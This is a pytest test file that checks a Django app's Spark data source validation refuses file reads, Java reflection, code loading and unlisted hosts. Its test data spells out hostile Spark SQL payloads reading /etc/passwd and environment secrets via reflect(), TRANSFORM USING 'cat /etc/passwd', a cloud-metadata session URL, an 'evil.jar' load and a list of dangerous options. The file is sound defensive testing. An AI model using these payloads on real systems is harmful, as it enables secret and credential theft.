"""Issue #21, defect 8: a spark data source's SQL, options and session URL cannot read the
worker's files or environment, load code, or connect to hosts the operator has not listed.
Each attack is refused when saved (API 400 naming the field; the admin shows it on the
field), and the shapes the docs show are still accepted."""

from __future__ import annotations

import json

import pytest
from django.test import Client

from core.actors import Actor
from core.errors import ValidationFailed
from experiments.data_source_rules import ALLOWED_FUNCTIONS, SESSION_OPTIONS
from experiments.models import DataSource
from experiments.services.data_sources import data_source_create, data_source_update

pytestmark = pytest.mark.django_db
URL = "/api/v1/data-sources"
ADMIN_PAGES = "/admin/experiments/datasource/"
LAKE = "/data/lake"
BODY = {
    "key": "lake",
    "name": "Lake",
    "kind": "spark",
    "session_url": "local[2]",
    "exposures": "lake.exposures",
    "events": "lake.events",
}


@pytest.fixture
def admin_api(client_for):
    return client_for("admin")


@pytest.fixture(autouse=True)
def _lake(settings) -> None:
    settings.VERDICT_SPARK_ALLOWED_PATHS = [LAKE]
    settings.VERDICT_SPARK_ALLOWED_HOSTS = []
    settings.VERDICT_LAKE_EXPORT_DIR = ""


def refused(admin_api, change: dict) -> dict[str, list[str]]:
    response = admin_api.post(URL, {**BODY, **change}, format="json")
    assert response.status_code == 400, response.json()
    assert not DataSource.objects.exists()
    return response.json()


# The probe's attacks, each refused on its field ------------------------------------------------


@pytest.mark.parametrize(
    ("sql", "names"),
    [
        ("SELECT value AS unit_id FROM text.`/etc/passwd`", "text"),
        ("text.`/etc/passwd`", "text"),
        ("SELECT * FROM read_files('/etc/passwd')", "READ_FILES"),
        ("SELECT * FROM csv.`/etc/passwd`", "outside the lake paths"),
        ("SELECT * FROM json.`/proc/self/environ`", "outside the lake paths"),
        ("SELECT * FROM parquet.`/data/lake/../../etc`", "outside the lake paths"),
        ("SELECT * FROM parquet.`/data/lakeside`", "outside the lake paths"),
        ("SELECT * FROM parquet.`/data/lake/{x,..}/..`", "outside the lake paths"),
        ("SELECT * FROM binaryFile.`/data/lake/events`", "binaryFile"),
        ("SELECT * FROM orc.`relative/events`", "outside the lake paths"),
        (
            "SELECT * FROM `org.apache.spark.sql.execution.datasources.text.TextFileFormat`"
            ".`/etc/passwd`",
            "TextFileFormat",
        ),
        ("SELECT *, input_file_name() AS f FROM lake.events", "INPUT_FILE_NAME"),
        (
            "SELECT reflect('java.lang.System', 'getenv', 'DJANGO_SECRET_KEY') AS unit_id "
            "FROM lake.events",
            "REFLECT",
        ),
        ("SELECT java_method('java.lang.System', 'getenv', 'HOME') FROM t", "JAVA_METHOD"),
        ("SELECT try_reflect('java.lang.System', 'getenv', 'HOME') FROM t", "TRY_REFLECT"),
        ("SELECT `reflect`('java.lang.System', 'getenv', 'HOME') FROM t", "REFLECT"),
        ("SELECT db.my_udf(unit_id) FROM t", "qualified name"),
        ("SELECT * FROM IDENTIFIER('text.`/etc/passwd`')", "IDENTIFIER"),
        ("SELECT TRANSFORM(unit_id) USING 'cat /etc/passwd' AS (x) FROM t", "TRANSFORM"),
        ("SELECT '${env:DJANGO_SECRET_KEY}' AS unit_id FROM t", "${...}"),
        ("SELECT '$\\{env:DJANGO_SECRET_KEY}' AS unit_id FROM t", "${...}"),
        ("SELECT * FROM db.explode(array(1))", "qualified name"),
        ("SELECT secret('scope', 'key') FROM t", "SECRET"),
        ("SELECT current_user() FROM t", "CURRENT_USER"),
        ("SELECT xpath(x, '/a') FROM t", "XPATH"),
        (
            "WITH e AS (SELECT reflect('java.lang.System', 'getenv', 'X') AS v) SELECT * FROM e",
            "REFLECT",
        ),
        ("SELECT * FROM t WHERE a = (SELECT java_method('a', 'b'))", "JAVA_METHOD"),
        ("SELECT /*+ BROADCAST(t) */ * FROM t", "HINT"),
        ("SELECT * FROM (SELECT 1) WHERE", "not valid Spark SQL"),
    ],
)
def test_create__relation_reads_files_calls_java_or_is_unparseable__400_naming_it(
    admin_api, sql: str, names: str
) -> None:
    errors = refused(admin_api, {"events": sql})
    assert list(errors) == ["events"], errors
    assert names in errors["events"][0]


@pytest.mark.parametrize(
    "option",
    [
        "spark.jars",
        "spark.jars.packages",
        "spark.driver.extraJavaOptions",
        "spark.executor.extraJavaOptions",
        "spark.driver.extraClassPath",
        "spark.sql.extensions",
        "spark.sql.catalog.evil",
        "spark.sql.variable.substitute",
        "spark.hadoop.fs.s3a.endpoint",
        "spark.hadoop.fs.s3a.aws.credentials.provider",
        "spark.files",
        "spark.plugins",
    ],
)
def test_create__option_not_on_the_allowed_list__400_on_that_option(admin_api, option) -> None:
    errors = refused(admin_api, {"options": {option: "x", "spark.sql.shuffle.partitions": 4}})
    assert list(errors) == [f"options.{option}"], errors
    assert "docs/warehouse.md#security" in errors[f"options.{option}"][0]


def test_create__option_value_with_variable_substitution__400_without_the_value(
    admin_api,
) -> None:
    value = "${env:DJANGO_SECRET_KEY}-x"
    errors = refused(admin_api, {"options": {"spark.sql.session.timeZone": value}})
    assert list(errors) == ["options.spark.sql.session.timeZone"]
    assert "${...}" in errors["options.spark.sql.session.timeZone"][0]
    assert value not in json.dumps(errors)


@pytest.mark.parametrize(
    "url",
    [
        "sc://169.254.169.254:80",
        "sc://spark.internal:15002/;token=abc",
        "spark://spark-master:7077",
        "spark://m1:7077,m2:7077",
        "yarn",
    ],
)
def test_create__session_host_with_no_allow_list__400_local_mode_only(admin_api, url) -> None:
    errors = refused(admin_api, {"session_url": url})
    assert list(errors) == ["session_url"]
    assert "VERDICT_SPARK_ALLOWED_HOSTS" in errors["session_url"][0]
    assert "abc" not in json.dumps(errors)


def test_create__session_host_outside_the_allow_list__400_naming_the_host(
    admin_api, settings
) -> None:
    settings.VERDICT_SPARK_ALLOWED_HOSTS = ["spark.internal:15002", "*.cloud.databricks.com"]
    errors = refused(admin_api, {"session_url": "sc://169.254.169.254:80"})
    assert "169.254.169.254:80" in errors["session_url"][0]
    assert "spark.internal:15002" in errors["session_url"][0]
    # The allowed port only, and a subdomain of an allowed domain.
    assert "session_url" in refused(admin_api, {"session_url": "sc://spark.internal:80"})
    assert "session_url" in refused(admin_api, {"session_url": "sc://cloud.databricks.com.evil:1"})


@pytest.mark.parametrize(
    ("allowed", "url"),
    [
        ("spark.internal", "sc://spark.internal:15002/;token=abc"),
        (["spark.internal:15002"], "sc://SPARK.internal:15002"),
        ("*.cloud.databricks.com", "sc://dbc-1.cloud.databricks.com:443/;use_ssl=true"),
        ("m1:7077, m2:7077", "spark://m1:7077,m2:7077"),
        ("yarn", "yarn"),
    ],
)
def test_create__session_host_on_the_allow_list__201(admin_api, settings, allowed, url) -> None:
    settings.VERDICT_SPARK_ALLOWED_HOSTS = allowed
    response = admin_api.post(URL, {**BODY, "session_url": url}, format="json")
    assert response.status_code == 201, response.json()


@pytest.mark.parametrize("url", ["local", "local[2]", "local[*]"])
def test_create__local_mode_with_no_allow_list__201(admin_api, url) -> None:
    response = admin_api.post(URL, {**BODY, "session_url": url}, format="json")
    assert response.status_code == 201, response.json()


@pytest.mark.parametrize(
    ("columns", "field"),
    [
        ({"exposure_columns": {"unit_id": "${env:DJANGO_SECRET_KEY}"}}, "exposure_columns.unit_id"),
        ({"event_columns": {"event": "${system:user.home}"}}, "event_columns.event"),
    ],
)
def test_create__column_name_with_variable_substitution__400_on_the_column(
    admin_api, columns, field
) -> None:
    errors = refused(admin_api, columns)
    assert list(errors) == [field]


@pytest.mark.parametrize(
    ("segments", "says"),
    [
        ("country", ""),
        (["country", "country"], "once"),
        (["a b"], "not an attribute key"),
        ([f"k{i}" for i in range(31)], "30"),
    ],
)
def test_create__bad_segments__400_on_segments(admin_api, segments, says) -> None:
    errors = refused(admin_api, {"segments": segments})
    assert says in errors["segments"][0]


# What the docs and the existing sources do stays accepted -------------------------------------


@pytest.mark.parametrize(
    "sql",
    [
        "lake.events",
        "catalog.db.events",
        "parquet.`/data/lake/events`",
        "delta.`file:///data/lake/events`",
        "SELECT * FROM parquet.`/data/lake/events`",
        "SELECT user_id AS unit_id, ts AS timestamp FROM analytics.events",
        "WITH e AS (SELECT * FROM raw.events) SELECT * FROM e WHERE e.ts >= '2024-01-01'",
        "SELECT * FROM a.events UNION ALL SELECT * FROM b.events",
        "SELECT e.event_uuid AS event_id, CONCAT('acct-', e.account_id) AS unit_id, "
        "e.name AS event, e.ts AS timestamp, e.amount_cents / 100.0 AS value, "
        "TO_JSON(e.props) AS properties FROM analytics.events e "
        "WHERE e.ts >= '2024-01-01' AND e.env = 'prod'",
        "SELECT u.id AS unit_id, CASE WHEN o.total > 100 THEN 'big' ELSE 'small' END AS size, "
        "COALESCE(o.total, 0) AS value, CAST(o.ts AS TIMESTAMP) AS timestamp, "
        "ROW_NUMBER() OVER (PARTITION BY u.id ORDER BY o.ts) AS n "
        "FROM crm.users u LEFT JOIN shop.orders o ON o.user_id = u.id "
        "WHERE u.country IN (SELECT code FROM ref.countries) "
        "AND o.ts >= DATE_SUB(CURRENT_DATE, 90) "
        "AND LOWER(o.channel) RLIKE '^web' GROUP BY u.id, o.total, o.ts HAVING COUNT(*) > 0",
        "SELECT unit_id, TO_JSON(NAMED_STRUCT('platform', platform, 'country', country)) "
        "AS attributes FROM analytics.assignments LATERAL VIEW EXPLODE(tags) t AS tag",
    ],
)
def test_create__documented_relation_shapes__201(admin_api, sql: str) -> None:
    response = admin_api.post(URL, {**BODY, "events": sql}, format="json")
    assert response.status_code == 201, response.json()


def test_create__documented_options_and_segments__201_and_segments_shown(admin_api) -> None:
    options = {
        "spark.sql.shuffle.partitions": 8,
        "spark.sql.session.timeZone": "UTC",
        "spark.executor.memory": "4g",
        "spark.hadoop.fs.s3a.access.key": "AKIA",
        "spark.hadoop.fs.s3a.secret.key": "s3cr3t",
        "spark.hadoop.fs.s3a.bucket.my-lake.secret.key": "s3cr3t",
        "spark.hadoop.fs.azure.account.key.mylake.dfs.core.windows.net": "k",
    }
    body = {**BODY, "options": options, "segments": ["country", "platform"]}
    response = admin_api.post(URL, body, format="json")
    assert response.status_code == 201, response.json()
    assert response.json()["segments"] == ["country", "platform"]
    assert DataSource.objects.get(key="lake").segments == ["country", "platform"]
    changed = admin_api.patch(f"{URL}/lake", {"segments": ["country"]}, format="json")
    assert changed.json()["segments"] == ["country"]


def test_rules__documented_lists__every_allowed_name_is_in_docs() -> None:
    from pathlib import Path

    doc = (Path(__file__).resolve().parents[2] / "docs" / "warehouse.md").read_text()
    security = doc.split("## Security", 1)[1].split("\n## ", 1)[0]
    missing = [name for name in sorted(ALLOWED_FUNCTIONS) if f"`{name}`" not in security]
    assert not missing
    assert all(f"`{name}`" in security for name in SESSION_OPTIONS)
    assert "VERDICT_SPARK_ALLOWED_HOSTS" in security and "VERDICT_SPARK_ALLOWED_PATHS" in security


# Updates, the service, and the admin ----------------------------------------------------------


def test_update__unsafe_relation_on_a_stored_source__400_and_stored_kept(admin_api) -> None:
    assert admin_api.post(URL, BODY, format="json").status_code == 201
    response = admin_api.patch(
        f"{URL}/lake",
        {"exposures": "SELECT reflect('java.lang.System', 'getenv', 'HOME') FROM t"},
        format="json",
    )
    assert response.status_code == 400
    assert "REFLECT" in response.json()["exposures"][0]
    assert DataSource.objects.get(key="lake").exposures == "lake.exposures"


def test_update__other_field_of_a_source_saved_before_the_rules__refused_until_fixed() -> None:
    """A source stored before the rules (written directly, as an old release did) cannot be
    saved again with its unsafe relation; fixing the relation saves."""
    source = DataSource.objects.create(
        **{**BODY, "events": "SELECT * FROM text.`/etc/passwd`"}, options={"spark.jars": "x"}
    )
    actor = Actor.system("test")
    with pytest.raises(ValidationFailed) as caught:
        data_source_update(actor=actor, source=source, data={"name": "Renamed"})
    assert set(caught.value.errors) == {"events", "options.spark.jars"}
    data_source_update(
        actor=actor,
        source=source,
        data={"events": "lake.events", "options": {"spark.jars": None}},
    )
    assert DataSource.objects.get(key="lake").options == {}


def test_service__lake_export_dir__is_an_allowed_lake_path(settings) -> None:
    settings.VERDICT_SPARK_ALLOWED_PATHS = []
    settings.VERDICT_LAKE_EXPORT_DIR = "s3a://bucket/verdict-lake"
    events = "parquet.`s3a://bucket/verdict-lake/events`"
    source = data_source_create(actor=Actor.system(), data={**BODY, "events": events})
    assert source.events == events
    settings.VERDICT_LAKE_EXPORT_DIR = ""
    with pytest.raises(ValidationFailed) as caught:
        data_source_create(actor=Actor.system(), data={**BODY, "key": "two", "events": events})
    assert "none is configured" in caught.value.errors["events"][0]


@pytest.fixture
def superuser_client(client: Client, admin_user) -> Client:
    client.force_login(admin_user)
    return client


def _admin_body(**fields) -> dict:
    return {
        "key": "lake",
        "name": "Lake",
        "kind": "spark",
        "session_url": "local[2]",
        "exposures": "lake.exposures",
        "events": "lake.events",
        "exposure_columns": "{}",
        "event_columns": "{}",
        "segments": '["country"]',
        "new_options": "",
        **fields,
    }


def test_admin_add__unsafe_relation_host_and_option__shown_next_to_each_field(
    superuser_client,
) -> None:
    response = superuser_client.post(
        ADMIN_PAGES + "add/",
        _admin_body(
            events="SELECT reflect('java.lang.System', 'getenv', 'HOME') FROM t",
            session_url="sc://169.254.169.254:80",
            new_options=json.dumps({"spark.jars": "http://x/evil.jar"}),
        ),
    )
    assert response.status_code == 200
    errors = response.context["adminform"].form.errors
    assert "REFLECT" in " ".join(errors["events"])
    assert "VERDICT_SPARK_ALLOWED_HOSTS" in " ".join(errors["session_url"])
    assert "spark.jars" in " ".join(errors["new_options"])
    assert "evil.jar" not in response.content.decode()
    assert not DataSource.objects.exists()


def test_admin_add__segments__stored(superuser_client) -> None:
    response = superuser_client.post(ADMIN_PAGES + "add/", _admin_body())
    assert response.status_code == 302, response.context["adminform"].form.errors
    assert DataSource.objects.get(key="lake").segments == ["country"]
